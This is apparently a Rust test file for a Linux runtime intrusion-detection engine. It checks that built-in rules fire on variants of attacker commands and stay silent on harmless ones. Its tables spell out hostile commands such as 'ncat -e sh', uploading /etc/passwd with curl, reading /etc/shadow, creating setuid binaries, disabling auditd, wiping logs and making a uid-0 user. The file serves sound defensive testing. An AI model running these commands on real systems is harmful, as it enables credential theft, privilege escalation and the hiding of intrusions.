use vigie_kernel_events::{Account, File};

use super::*;
use crate::record::{Program, Record, Run, What};
use crate::table::Table;

const ANN: Account = Account::user(1000);

fn exec(path: &str, arguments: &[&str]) -> Record {
    let run = Run {
        program: Program { path: path.into(), file: File { links: 1, mode: 0o100_755, ..File::default() } },
        arguments: vigie_kernel_events::Listed::from_bytes(arguments.join("\0").into_bytes()),
        ..Run::default()
    };
    Record { time: 1, who: Key { pid: 7, start: 1 }, what: What::Exec(Box::new(run)) }
}

fn fires(rules: &mut Rules, record: &Record) -> Vec<String> {
    let table = Table::default();
    let facts = Facts::new(record, ANN, &table, [0; 4]);
    rules.ask(&facts).iter().map(|fired| fired.rule.id.clone()).collect()
}

const RULES: &str = r#"
[lists]
tools = ["nc", "ncat*"]

[[rule]]
id = "one"
title = "One"
severity = "high"
on = ["exec"]
when = [{ exe.name = "$tools", argument = "-e" }, { exe.path = "/tmp/*", arguments = ">=3" }]
unless = [{ argument = "quiet" }]
"#;

#[test]
fn one_of_when_must_fit_and_none_of_unless() {
    let mut rules = Rules::new(parse(RULES).unwrap(), &[]);

    assert_eq!(fires(&mut rules, &exec("/usr/bin/ncat.openbsd", &["ncat", "-e", "sh"])), ["one"]);
    assert!(fires(&mut rules, &exec("/usr/bin/nc", &["nc", "-l"])).is_empty());
    assert_eq!(fires(&mut rules, &exec("/tmp/x", &["x", "1", "2"])), ["one"]);
    assert!(fires(&mut rules, &exec("/tmp/y", &["y", "1"])).is_empty());
    assert!(fires(&mut rules, &exec("/usr/bin/nc", &["nc", "-e", "quiet"])).is_empty());
}

#[test]
fn the_same_again_is_counted_and_not_told() {
    let mut rules = Rules::new(parse(RULES).unwrap(), &[]);
    let mut record = exec("/tmp/x", &["x", "1", "2"]);

    assert_eq!(fires(&mut rules, &record).len(), 1);
    assert!(fires(&mut rules, &record).is_empty());
    record.time += QUIET;
    let table = Table::default();
    let facts = Facts::new(&record, ANN, &table, [0; 4]);
    let again: Vec<u64> = rules.ask(&facts).iter().map(|fired| fired.repeated).collect();

    assert_eq!(again, [1]);
}

#[test]
fn what_is_wrong_is_told_with_its_rule() {
    for (from, to, problem) in [
        ("exe.name", "exe.nome", "unknown field"),
        ("\"$tools\"", "\"$nothing\"", "unknown list"),
        ("\"high\"", "\"loud\"", "unknown severity"),
        ("[\"exec\"]", "[\"execute\"]", "unknown kind"),
        ("\">=3\"", "\"many\"", "not a number"),
        ("title", "titel", "unknown field"),
    ] {
        let problems = parse(&RULES.replacen(from, to, 1)).unwrap_err();

        assert!(problems.iter().any(|text| text.contains(problem)), "{problems:?}");
    }
}

#[test]
fn the_built_in_rules_are_whole() {
    let rules = parse(BUILTIN).unwrap();

    assert!(rules.len() >= 40, "{}", rules.len());
    for rule in &rules {
        assert!(rule.trigger.is_some(), "{} has no trigger", rule.id);
        assert!(!rule.attack.is_empty(), "{} has no technique", rule.id);
        assert!(rule.attack.iter().all(|id| id.starts_with('T') && id.len() >= 5), "{}", rule.id);
    }
}

/// Other ways to do the same: which rule must report each. What the kernel has to tell for it is told by the kernel.
const VARIANTS: &[(&str, &str)] = &[
    (
        "deleted-or-memory-listen",
        r#"cp $(readlink -f /usr/bin/python3) $D/d
$D/d -c "import os,socket;os.unlink('$D/d');s=socket.socket();s.bind(('127.0.0.1',0));s.listen()""#,
    ),
    // Another process removes it.
    (
        "deleted-or-memory-listen",
        r#"cp $(readlink -f /usr/bin/python3) $D/e
$D/e -c "import subprocess,socket;subprocess.run(['rm','$D/e']);s=socket.socket();s.bind(('127.0.0.1',0));s.listen()""#,
    ),
    ("download-pipe-shell", "cp $(readlink -f /bin/sh) $D/curl; bash <($D/curl -c 'echo true')"),
    (
        "memfd-exec",
        r#"python3 -c "import os;fd=os.memfd_create('x',0);os.write(fd,b'#!/bin/sh\ntrue\n');os.execve('/proc/self/fd/%d'%fd,['x'],{})""#,
    ),
    (
        "memfd-exec",
        r#"python3 -c "import os;fd=os.memfd_create('x',0);os.write(fd,b'#!/bin/sh\ntrue\n');os.execve(fd,['x'],{})""#,
    ),
    (
        "memfd-exec",
        r#"python3 -c "import os;fd=os.memfd_create('x',0);os.write(fd,b'true\n');os.execv('/bin/sh',['sh','/proc/self/fd/%d'%fd])""#,
    ),
    ("web-command", "cp $(readlink -f /bin/sh) $D/nginx; $D/nginx -c '/bin/cat /etc/hostname; true'"),
    ("web-command", "cp $(readlink -f /bin/sh) $D/apache2; $D/apache2 -c 'perl -e 1; true'"),
];

#[test]
fn variants_of_what_rules_are_about_fire_them_on_this_kernel() {
    let mut silent = Vec::new();
    for (rule, script) in VARIANTS {
        let dir = tempfile::tempdir().unwrap();
        let Some((mut engine, told)) = crate::tests::engine(dir.path(), serde_json::json!({})) else {
            return;
        };
        let work = tempfile::tempdir().unwrap();
        crate::tests::trigger(&mut engine, work.path(), script);
        crate::tests::all_is_read(&mut engine, &told, work.path());
        if !told.alerts().iter().any(|alert| alert["rule"] == **rule) {
            silent.push(format!("{rule}: {script}"));
        }
    }

    assert!(silent.is_empty(), "{silent:#?}");
}

/// A daemon whose package was upgraded listens again: its file is another one now.
#[test]
fn a_daemon_whose_file_was_replaced_by_an_upgrade_listens_without_an_alert() {
    let dir = tempfile::tempdir().unwrap();
    let Some((mut engine, told)) = crate::tests::engine(dir.path(), serde_json::json!({})) else { return };
    let Ok(opt) = tempfile::Builder::new().prefix("vigie-upgraded").tempdir_in("/opt") else {
        return vigie_skipped::without_bpf("/opt cannot be written");
    };
    let daemon = opt.path().join("daemon");
    let script = format!(
        r#"P={}; cp $(readlink -f /usr/bin/python3) $P
$P -c "import os,shutil,socket;shutil.copy('$P','$P.new');os.rename('$P.new','$P');s=socket.socket();s.bind(('127.0.0.1',0));s.listen()""#,
        daemon.display()
    );
    crate::tests::trigger(&mut engine, dir.path(), &script);
    crate::tests::all_is_read(&mut engine, &told, dir.path());

    let alerts = told.alerts();
    let wrong = alerts.iter().filter(|alert| crate::tests::is_from(alert, opt.path()));
    assert_eq!(wrong.collect::<Vec<_>>(), Vec::<&serde_json::Value>::new());
}

/// Spellings of the same: program, its arguments, and the rule.
const SPELLINGS: &[(&str, &str, &str)] = &[
    ("/bin/chmod", "chmod 4755 x", "setuid-made"),
    ("/bin/chmod", "chmod 04755 x", "setuid-made"),
    ("/bin/chmod", "chmod 2755 x", "setuid-made"),
    ("/bin/chmod", "chmod +4000 x", "setuid-made"),
    ("/bin/chmod", "chmod a+s x", "setuid-made"),
    ("/bin/chmod", "chmod g+s x", "setuid-made"),
    ("/bin/chmod", "chmod u+xs x", "setuid-made"),
    ("/bin/chmod", "chmod -R go-w,u=rwxs x", "setuid-made"),
    ("/usr/bin/install", "install -m 4755 a b", "setuid-made"),
    ("/usr/bin/install", "install -m4755 a b", "setuid-made"),
    ("/usr/bin/install", "install -Dm 4755 a b", "setuid-made"),
    ("/usr/bin/install", "install --mode 4755 a b", "setuid-made"),
    ("/usr/bin/install", "install --mode=4755 a b", "setuid-made"),
    ("/usr/bin/install", "install --mod=u+s a b", "setuid-made"),
    ("/bin/busybox", "chmod 4755 x", "setuid-made"),
    ("/bin/busybox", "busybox chmod 4755 x", "setuid-made"),
    ("/usr/lib64/ld-linux-x86-64.so.2", "ld-linux-x86-64.so.2 /bin/chmod 4755 x", "setuid-made"),
    ("/usr/bin/nsenter", "nsenter --mount=/proc/1/ns/mnt sh", "namespace-enter"),
    ("/usr/bin/nsenter", "nsenter -at1 sh", "namespace-enter"),
    ("/usr/bin/nsenter", "nsenter --target 1 -m", "namespace-enter"),
    ("/usr/sbin/chroot", "chroot /proc/1/root sh", "namespace-enter"),
    ("/sbin/auditctl", "auditctl -e 0", "log-off"),
    ("/sbin/auditctl", "auditctl -e0", "log-off"),
    ("/sbin/auditctl", "auditctl -e=0", "log-off"),
    ("/usr/bin/pkill", "pkill -9 -f auditd", "log-off"),
    ("/bin/rm", "rm -rf ../var/log/nginx", "log-wipe"),
    ("/bin/cp", "cp /dev/null /var/log/auth.log", "log-wipe"),
    ("/usr/bin/journalctl", "journalctl --rotate --vacuum-time 1s", "log-wipe"),
    ("/usr/bin/touch", "touch -amt 200001010000 passwd", "timestomp"),
    ("/usr/bin/cat", "cat shadow", "credentials-read"),
    ("/usr/bin/cat", "cat /etc//shadow a.pub", "credentials-read"),
    ("/usr/bin/sed", "sed -n p /etc/../etc/shadow", "credentials-read"),
    ("/usr/bin/nc.openbsd", "nc -nvz 192.0.2.1 1-1000", "scanner"),
    ("/usr/bin/ssh", "ssh -fNR 9000:localhost:22 h", "tunnel"),
    ("/usr/bin/curl", "curl -sT /etc/passwd http://h/", "upload"),
    ("/usr/bin/docker", "docker run -itv /:/host alpine", "container-host-mount"),
    ("/usr/sbin/useradd", "useradd -ou0 x", "new-root-user"),
    ("/usr/sbin/usermod", "usermod -aG users,sudo x", "admin-group"),
    ("/usr/sbin/usermod", "usermod --append --groups=docker x", "admin-group"),
    ("/usr/bin/install", "install -m 440 x /etc/sudoers.d/", "sudoers"),
    ("/usr/sbin/xtables-nft-multi", "iptables -t nat -F", "firewall-off"),
    ("/usr/bin/kmod", "insmod ./x.ko", "module-load"),
    ("/usr/bin/kmod", "kmod insmod ./x.ko", "module-load"),
    ("/usr/bin/bash", "bash /dev/shm/x.sh", "exec-shared-memory"),
];

/// What looks like them.
const HARMLESS: &[(&str, &str)] = &[
    ("/bin/chmod", "chmod 0755 x"),
    ("/bin/chmod", "chmod u-s x"),
    ("/bin/chmod", "chmod -R go=rX,u+w dist"),
    ("/usr/bin/install", "install -o root -g games -m 0755 a b"),
    ("/usr/bin/ssh", "ssh -oUserKnownHostsFile=/dev/null -oForwardAgent=no h"),
    ("/usr/bin/curl", "curl -XPUT -HTest:1 -fsSL http://h/"),
    ("/usr/bin/date", "date -Iseconds"),
    ("/usr/bin/touch", "touch -c /etc/x"),
    ("/sbin/auditctl", "auditctl -e 1"),
    ("/usr/bin/nsenter", "nsenter -t 12 -m true"),
    ("/usr/sbin/useradd", "useradd -u 1000 -m x"),
    ("/usr/sbin/xtables-nft-multi", "iptables -w -F f2b-sshd"),
    ("/bin/busybox", "ls -la"),
    ("/usr/bin/journalctl", "journalctl --vacuum-time=10d"),
    ("/usr/bin/cat", "cat /proc/self/environ"),
];

fn all_that_fire(path: &str, command: &str, change: impl FnOnce(&mut Run)) -> Vec<String> {
    let mut rules = Rules::new(parse(BUILTIN).unwrap(), &[]);
    let mut record = exec(path, &command.split(' ').collect::<Vec<_>>());
    if let What::Exec(run) = &mut record.what {
        run.cwd = b"/etc".to_vec();
        change(run);
    }
    fires(&mut rules, &record)
}

#[test]
fn options_modes_and_files_are_known_in_each_spelling() {
    let silent: Vec<&str> = SPELLINGS
        .iter()
        .filter(|(path, command, rule)| !all_that_fire(path, command, |_| ()).iter().any(|it| it == rule))
        .map(|(_, command, _)| *command)
        .collect();
    let wrong: Vec<_> = HARMLESS
        .iter()
        .map(|(path, command)| (command, all_that_fire(path, command, |_| ())))
        .filter(|(_, fired)| !fired.is_empty())
        .collect();

    assert!(silent.is_empty(), "silent: {silent:#?}");
    assert!(wrong.is_empty(), "wrong: {wrong:#?}");
}

#[test]
fn each_entry_of_a_list_of_libraries_counts() {
    for (cwd, value) in [
        ("/", "libm.so.6:/tmp/x.so"),
        ("/", "libm.so.6 /tmp/x.so"),
        ("/tmp", "libm.so.6:./x.so"),
        ("/", "/usr/lib/../../tmp/x.so"),
    ] {
        let fired = all_that_fire("/bin/true", "true", |run| {
            run.cwd = cwd.into();
            run.environment = vec![(b"LD_PRELOAD".to_vec(), value.into())];
        });

        assert_eq!(fired, ["preload-writable"], "{value}");
    }
}

#[test]
fn every_account_of_a_service_is_one() {
    for (uid, expected) in [(33, true), (999, true), (64_000, true), (0, false), (1000, false)] {
        for program in ["at", "batch", "crontab"] {
            let fired = all_that_fire(&format!("/usr/bin/{program}"), "x now", |run| run.rights.uid = uid);

            assert_eq!(!fired.is_empty(), expected, "{program} of {uid}: {fired:?}");
        }
    }
}
